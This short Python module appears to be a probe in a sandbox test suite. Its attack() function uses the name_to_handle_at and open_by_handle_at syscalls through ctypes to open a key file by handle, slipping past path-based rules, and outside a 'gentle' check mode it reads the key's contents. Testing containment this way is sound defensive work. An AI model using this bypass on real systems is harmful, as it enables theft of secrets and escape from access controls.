"""Opens the key by its handle instead of its path, which no rule about paths sees."""

import ctypes
import errno
import os
import struct

from world import GENTLE, KEY_FILE

LIBC = ctypes.CDLL(None, use_errno=True)
TO_HANDLE, BY_HANDLE = (303, 304) if os.uname().machine == "x86_64" else (264, 265)
AT_FDCWD = -100


def attack():
    """Opening takes a capability that no child keeps: the control is that the handle itself can be made."""
    handle = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0) + bytes(128))
    made = LIBC.syscall(TO_HANDLE, AT_FDCWD, KEY_FILE.encode(), handle, ctypes.byref(ctypes.c_int()), 0) == 0
    folder = os.open(os.path.dirname(os.__file__), os.O_RDONLY)
    fd = LIBC.syscall(BY_HANDLE, folder, handle, os.O_RDONLY)
    if GENTLE:
        return made and ctypes.get_errno() == errno.EPERM and "a handle"
    return os.read(fd, 100) if fd >= 0 else ""
